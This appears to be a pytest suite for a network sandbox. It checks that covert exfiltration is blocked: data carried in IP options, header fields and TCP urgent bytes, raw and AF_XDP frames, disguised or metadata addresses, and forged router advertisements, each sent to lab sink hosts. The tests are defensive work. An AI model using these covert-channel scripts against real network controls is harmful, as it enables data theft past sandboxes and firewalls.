"""Packets made by hand, carriers in headers, sockets bound to devices: from networks in which CAP_NET_RAW is held.

What `sandgate run` starts has no such capability; test_refusals_addresses.py shows that. Here are a network that is
shared with a sidecar, as a container's is with Docker's default capabilities, and one that the node daemon guards.
"""

from __future__ import annotations

import itertools
import signal
import subprocess
import uuid
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from lab import plan, raw_packets
from lab.capture import capture
from lab.daemon import Daemon, attachment
from lab.internet import Internet
from lab.namespaces import Namespace
from lab.processes import wait_until
from lab.sandgate import Sandgate, after_resolving, allowing, attack
from lab.sidecar import INSIDE4, INSIDE6, OUTSIDE4, RAW, Sidecar, sidecar

PACKETS = [
    *(pytest.param(kind, "ipv4", id=f"ipv4 {kind}") for kind in raw_packets.KINDS4),
    *(pytest.param(kind, "ipv6", id=f"ipv6 {kind}") for kind in raw_packets.KINDS6),
]
BOTH = pytest.mark.parametrize("address", [plan.SINK4, plan.SINK6], ids=["ipv4", "ipv6"])

_numbers = itertools.count()


@pytest.fixture
def shared(internet: Internet, tmp_path: Path) -> Iterator[Sidecar]:
    with sidecar(internet, tmp_path) as made:
        yield made


def secret() -> str:
    """A text that nothing else contains, as long as an IPv6 address."""
    return uuid.uuid4().hex[:16]


def arrives(internet: Internet, text: str, command: Sequence[str]) -> bool:
    """Whether a packet with `text` comes into the Internet when `command` is run; neighbour discovery counts too."""
    file = internet.directory / f"wire-{next(_numbers)}.pcap"
    with capture(internet.namespace.command(), "any", file) as seen:
        subprocess.run(command, env=internet.environment(), capture_output=True, timeout=60)
    return text.encode() in seen.payload


def works(internet: Internet, text: str, command: Sequence[str]) -> bool:
    """Whether ``arrives`` is so, where nothing stops it: the first packet waits for the neighbour to be found, and may come
    after the capture's end."""
    return any(arrives(internet, text, command) for _ in range(3))


def packet(kind: str, version: str, text: str, inside: tuple[str, str]) -> list[str]:
    """The command that sends a packet that is made by hand."""
    addresses = (inside[0], plan.SINK4) if version == "ipv4" else (inside[1], plan.SINK6)
    return ["/usr/bin/python3", raw_packets.__file__, kind, *addresses, text]


@pytest.mark.attack(
    "B1 B2 D6",
    "sends a packet made by hand beside a sidecar: every transport, ICMP and neighbour discovery message, IP option, "
    "extension header, fragment, broadcast and multicast",
    stopped_by="kernel",
)
@pytest.mark.parametrize(("kind", "version"), PACKETS)
def test_packet_beside_a_sidecar(internet: Internet, shared: Sidecar, kind: str, version: str) -> None:
    one, other = secret(), secret()
    inside = (INSIDE4, INSIDE6)
    assert works(internet, one, shared.command(*packet(kind, version, one, inside))), "it works without a sidecar"
    shared.start({"defaultAction": "allow"})
    assert not arrives(internet, other, shared.command(*packet(kind, version, other, inside))), shared.log
    assert other not in internet.sinks.data()


@pytest.mark.attack(
    "B1 B2 D6",
    "sends a packet made by hand from a network that the daemon guards and whose operator accepted raw sockets",
    stopped_by="kernel",
)
@pytest.mark.parametrize("version", ["ipv4", "ipv6"])
def test_packets_from_a_guarded_network(internet: Internet, daemon: Daemon, box: Namespace, version: str) -> None:
    kinds = raw_packets.KINDS4 if version == "ipv4" else raw_packets.KINDS6
    inside = ("10.78.0.2", "fd78::2")
    working = []
    for kind in kinds:
        text = secret()
        if arrives(internet, text, box.command(*RAW, *packet(kind, version, text, inside))):
            working.append(kind)
    # The others are for addresses that only a sidecar's network has.
    assert len(working) >= len(kinds) - 4, set(kinds) - set(working)
    daemon.create({"defaultAction": "allow"}, attachment=attachment(box))
    through = []
    for kind in working:
        text = secret()
        if arrives(internet, text, box.command(*RAW, *packet(kind, version, text, inside))):
            through.append(kind)
    assert through == []


@pytest.mark.attack(
    "T10",
    "writes frames with packet sockets, past the queue too, in a network that the daemon made",
    stopped_by="namespaces",
)
@pytest.mark.parametrize("bypass", ["queue", "bypass"])
def test_frames_from_a_made_network(internet: Internet, daemon: Daemon, bypass: str) -> None:
    """The other end of its only link lies in a namespace where there is nothing else."""
    program = str(Path(__file__).parent / "attacks" / "shared_namespace.py")
    text = "stolen by a frame"
    command = ["/usr/bin/python3", program, "packet", bypass, "192.0.2.99", plan.SINK4, "4444", "ff:ff:ff:ff:ff:ff"]
    assert works(internet, text, internet.plain.command(*command))
    sandbox = daemon.create({"defaultAction": "allow"})
    with internet.capture() as outside:
        done = sandbox.run("/bin/sh", "-c", f"exec {' '.join(command)}")
    assert done.returncode == 0 and text.encode() not in outside.payload, done


# Rings

NO_RINGS = 3


def through_a_ring(device: str, way: str, source: str, neighbour: str) -> list[str]:
    return attack("xdp_socket", device, way, source, plan.SINK4, 4444, neighbour)


@pytest.mark.attack(
    "T10",
    "sends frames through the ring of an AF_XDP socket, behind every hook and the queue, beside a sidecar",
    stopped_by="fence",
)
@pytest.mark.parametrize("way", ["own", "shared"])
def test_ring_beside_a_sidecar(internet: Internet, shared: Sidecar, way: str) -> None:
    shared.namespace.ip("link", "set", "lo", "up")
    command = through_a_ring("eth0", way, INSIDE4, shared.namespace.neighbour(OUTSIDE4))
    first = shared.run(*command, timeout=60)
    if first.returncode == NO_RINGS:
        pytest.skip(first.stderr)
    wait_until(lambda: "stolen through a ring" in internet.sinks.data(), "the frame: it works without a sidecar")
    for number in (signal.SIGKILL, signal.SIGTERM):
        internet.forget()
        shared.start(allowing(plan.ALLOWED))
        with internet.capture("udp port 4444", unenforced=True) as outside:
            done = shared.run(*command, timeout=60)
        assert done.returncode == 4 and "queues are taken" in done.stderr, done
        assert b"stolen" not in outside.payload and internet.sinks.data() == ""
        assert shared.reaches(plan.ALLOWED) and shared.reaches(plan.ALLOWED, "-6")
        # The next one takes them again.
        shared.end(number)


def test_ring_that_was_there_before(internet: Internet, shared: Sidecar) -> None:
    """A program that has a ring already would keep its way out: the sidecar does not say that it is well."""
    holder = subprocess.Popen(
        shared.command(*through_a_ring("eth0", "hold", INSIDE4, "ff:ff:ff:ff:ff:ff")),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout is not None
    if holder.stdout.readline() != "held\n":
        pytest.skip("this kernel has no AF_XDP sockets")
    said = shared.refuses(allowing(plan.ALLOWED))
    assert "cannot take queue 0 of eth0" in said and "a program has an AF_XDP socket there" in said, said
    holder.communicate("now\n", timeout=20)
    shared.start(allowing(plan.ALLOWED))
    assert shared.reaches(plan.ALLOWED)


@pytest.mark.attack(
    "T10",
    "sends frames through the ring of an AF_XDP socket in a network that the daemon made",
    stopped_by="namespaces",
)
def test_ring_in_a_made_network(internet: Internet, daemon: Daemon) -> None:
    neighbour = internet.plain.neighbour("10.77.0.1")
    command = internet.plain.command(*through_a_ring("eth0", "own", "10.77.0.2", neighbour))
    first = subprocess.run(command, capture_output=True, text=True, timeout=60)
    if first.returncode == NO_RINGS:
        pytest.skip(first.stderr)
    wait_until(lambda: "stolen through a ring" in internet.sinks.data(), "the frame: it works without enforcement")
    sandbox = daemon.create({"defaultAction": "allow"})
    with internet.capture() as outside:
        done = sandbox.run(*through_a_ring("-", "own", "192.0.2.99", "ff:ff:ff:ff:ff:ff"))
    assert done.returncode == 0 and b"stolen" not in outside.payload, done


# Headers of what is allowed


IP_OPTIONS = """\
import socket, sys
kind, address, text = sys.argv[1:]
with socket.socket(socket.AF_INET, getattr(socket, "SOCK_" + kind)) as sender:
    # A route record that is full: routers write nothing into it. No privilege is needed for it.
    options = bytes([7, 3 + len(text), 4 + len(text)]) + text.encode()
    sender.setsockopt(socket.IPPROTO_IP, 4, options + bytes(-len(options) % 4))
    sender.settimeout(3)
    sender.connect((address, 4444))
    sender.send(b"hello")
    print(sender.recv(100))
"""


@pytest.mark.attack("B1", "carries data in the IP options of a connection that a rule allows", stopped_by="kernel")
@pytest.mark.parametrize("kind", ["STREAM", "DGRAM"], ids=["tcp", "udp"])
def test_options_of_an_allowed_flow(internet: Internet, sandgate: Sandgate, kind: str) -> None:
    text = secret()
    command = ["/usr/bin/python3", "-c", IP_OPTIONS, kind, plan.SINK4, text]
    assert works(internet, text, internet.plain.command(*command))
    internet.forget()

    text = secret()
    command[-1] = text
    with internet.capture() as outside:
        run = sandgate.run(allowing(plan.SINK4), *command)
    assert "hello" in run.stdout and internet.sinks.data() == "hello", run
    assert text.encode() not in outside.payload, outside


@pytest.mark.attack("B1", "carries data in the IP options of a query", stopped_by="dns")
def test_options_of_a_query(internet: Internet, sandgate: Sandgate) -> None:
    text = secret()
    command = ["/usr/bin/python3", "-c", IP_OPTIONS.replace("4444", "53"), "DGRAM", plan.DNS4, text]
    assert works(internet, text, internet.plain.command(*command))
    text = secret()
    command[-1] = text
    with internet.capture() as outside:
        sandgate.run(allowing(plan.ALLOWED), *command)
    assert text.encode() not in outside.payload, outside


HEADER_FIELDS = """\
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
with socket.socket(family) as client:
    if family == socket.AF_INET6:
        client.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_TCLASS, 0xA8)
        client.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 77)
    else:
        client.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 0xA8)
        client.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 77)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    client.bind(("", 47123))
    client.settimeout(5)
    client.connect((sys.argv[1], 4444))
    client.sendall(b"hello")
    print(client.recv(100))
"""


@pytest.mark.attack(
    "B1",
    "carries data in the traffic class, the hop limit and the source port of an allowed flow",
    stopped_by="connect",
)
@BOTH
def test_header_fields_of_an_allowed_flow(internet: Internet, sandgate: Sandgate, address: str) -> None:
    command = ["/usr/bin/python3", "-c", HEADER_FIELDS, address]
    fields = [
        "src port 47123",
        "ip[1] & 0xfc == 0xa8 or (ip6 and ip6[0:2] & 0x0fc0 == 0x0a80)",
        "(ip[8] >= 60 and ip[8] <= 77 and ip[8] != 64 and ip[8] != 63) or ip6[7] == 77 or ip6[7] == 76",
    ]
    towards = f"dst host {address}"
    for field in fields:
        with internet.capture(f"{towards} and ({field})", unenforced=True) as outside:
            assert "hello" in internet.unenforced(command).stdout
        assert outside.lines, field
        with internet.capture(f"{towards} and ({field})") as outside:
            run = sandgate.run(allowing(address), *command)
        assert "hello" in run.stdout, run
        assert not outside.lines, f"{field}\n{outside}"


URGENT = """\
import socket, sys, time
address, port, before, urgent, after = sys.argv[1:]
with socket.create_connection((address, int(port)), 5) as client:
    client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    client.sendall(before.encode().decode("unicode_escape").encode("latin-1"))
    client.send(urgent.encode(), socket.MSG_OOB)
    client.sendall(after.encode().decode("unicode_escape").encode("latin-1"))
    client.settimeout(2)
    try:
        while piece := client.recv(65536): print(piece)
    except OSError as error: print(error)
"""


@pytest.mark.attack(
    "P1 P5", "hides a byte from the proxy by sending it out of band, within a host or a body", stopped_by="http-host"
)
@pytest.mark.parametrize(
    ("before", "after"),
    [
        (rf"GET / HTTP/1.1\r\nHost: {plan.SINK}", r"\r\n\r\n"),
        (rf"POST / HTTP/1.1\r\nHost: {plan.SINK}\r\nContent-Length: 4\r\n\r\na", "bcd"),
        ("opaque ", " bytes"),
    ],
    ids=["host", "body", "opaque"],
)
def test_byte_out_of_band(internet: Internet, sandgate: Sandgate, before: str, after: str) -> None:
    port = "4444" if before.startswith("opaque") else "80"
    text = secret()
    command = ["/usr/bin/python3", "-c", URGENT, plan.SINK4, port, before, text + "~", after]
    with internet.capture(f"dst host {plan.SINK4} and tcp[13] & 0x20 != 0", unenforced=True) as outside:
        internet.unenforced(command)
    assert outside.lines and b"~" in outside.payload
    internet.forget()

    with internet.capture(f"dst host {plan.SINK4}") as outside:
        run = sandgate.run(allowing(plan.SINK), *after_resolving(plan.SINK, then=command))
    assert "~" not in internet.sinks.data() and f"{text}~".encode() not in outside.payload, run
    assert not [line for line in outside.lines if "[U" in line or "U]" in line], outside


# Addresses in disguise


DISGUISES = {
    "mapped": f"::ffff:{plan.SINK4}",
    "compatible": f"::{plan.SINK4}",
    "nat64": "64:ff9b::c633:6442",
    "local nat64": "64:ff9b:1::c633:6442",
    "6to4": "2002:c633:6442::1",
    "teredo": "2001:0:c633:6442::1",
    "link-local": "fe80::99%eth0",
    "unique local": "fd99::1",
    "documentation": "2001:db8:100::66",
    "all nodes": "ff02::1%eth0",
    "multicast of the site": "ff05::99",
    "broadcast": "255.255.255.255",
    "multicast": "239.1.2.3",
    "subnet broadcast": "10.81.0.255",
    "this network": "0.0.0.1",
    "reserved": "240.0.0.1",
    "metadata": "169.254.169.254",
    "neighbour": "10.81.0.1",
    "neighbour over ipv6": "fd81::1",
}

SEND = """\
import socket, sys
address, port, text = sys.argv[1:]
host, _, device = address.partition("%")
family = socket.AF_INET6 if ":" in host else socket.AF_INET
scope = next((number for number, name in socket.if_nameindex() if name == device), 0)
where = (host, int(port), 0, scope) if ":" in host else (host, int(port))
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    with socket.socket(family, kind) as sender:
        sender.settimeout(1)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            sender.connect(where)
            sender.send(text.encode())
        except OSError as error:
            print(error)
"""


@pytest.mark.attack(
    "N1",
    "sends to an address in disguise: mapped, translated, link-local, multicast, broadcast, reserved",
    stopped_by="kernel",
)
@pytest.mark.parametrize("name", DISGUISES)
def test_address_in_disguise(internet: Internet, shared: Sidecar, name: str) -> None:
    """The policy allows everything: what is refused is refused because of where it goes."""
    if name == "link-local":
        internet.namespace.ip("address", "add", "fe80::99/64", "dev", shared.link, "nodad")
    texts = [secret(), secret()]
    commands = [shared.command("/usr/bin/python3", "-c", SEND, DISGUISES[name], "4444", text) for text in texts]
    works = arrives(internet, texts[0], commands[0])
    if name in ("this network", "reserved", "compatible"):
        # Kernels differ in whether they send there at all.
        works = True
    assert works, "it works without a sidecar"
    shared.start(allowing(plan.ALLOWED))
    assert not arrives(internet, texts[1], commands[1])


# The outer device


@pytest.mark.attack(
    "T11", "binds sockets to the outer device, which the sandbox shares with the sidecar", stopped_by="kernel"
)
@pytest.mark.parametrize("kind", ["tcp", "udp", "query", "query over tcp"])
@BOTH
def test_outer_device_beside_a_sidecar(internet: Internet, shared: Sidecar, address: str, kind: str) -> None:
    if kind.startswith("query"):
        server = plan.OTHER_DNS4 if address == plan.SINK4 else plan.OTHER_DNS6
        words = ("tcp" if "tcp" in kind else "udp", server, 53)
    else:
        words = (kind, address, 4444)
    texts = [secret(), secret()]
    commands = [shared.command(*attack("packets", *words, text, "--device")) for text in texts]
    assert works(internet, texts[0], commands[0]), "it works without a sidecar"
    internet.forget()
    shared.start(allowing(plan.SINK, {"target": address, "protocol": "any"}))
    assert not arrives(internet, texts[1], commands[1])
    assert internet.sinks.arrivals() == []


@pytest.mark.attack(
    "B2", "floods the network with router advertisements from outside, to move its traffic", stopped_by="kernel"
)
def test_router_advertisement_from_outside(internet: Internet, shared: Sidecar) -> None:
    """They would give the sandbox another address and another way; whoever answers there has it."""
    shared.namespace.sysctl("net.ipv6.conf.eth0.accept_ra", "2")
    addresses = ("-6", "address", "show", "dev", "eth0")
    script = (
        "import socket, struct, sys\n"
        "index = next(n for n, name in socket.if_nameindex() if name.startswith('sgside'))\n"
        "s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)\n"
        "s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)\n"
        "prefix = socket.inet_pton(socket.AF_INET6, sys.argv[1])\n"
        "option = struct.pack('!BBBBIII', 3, 4, 64, 0xC0, 3600, 3600, 0) + prefix\n"
        "s.sendto(struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + option, ('ff02::1', 0, 0, index))\n"
    )
    advertise = internet.namespace.command("/usr/bin/python3", "-c", script)
    for namespace, device in ((shared.namespace, "eth0"), (internet.namespace, shared.link)):
        show = ("ip", "-6", "address", "show", "dev", device)
        wait_until(lambda: "tentative" not in namespace.check(*show), "the link's own addresses")
    subprocess.run([*advertise, "2001:db8:aaaa::"], check=True)
    # It works without a sidecar.
    wait_until(lambda: "2001:db8:aaaa:" in shared.namespace.check("ip", *addresses), "an address by advertisement")
    shared.start(allowing(plan.ALLOWED))
    subprocess.run([*advertise, "2001:db8:bbbb::"], check=True)
    assert shared.reaches(plan.ALLOWED, "-6")
    assert "2001:db8:bbbb:" not in shared.namespace.check("ip", *addresses)
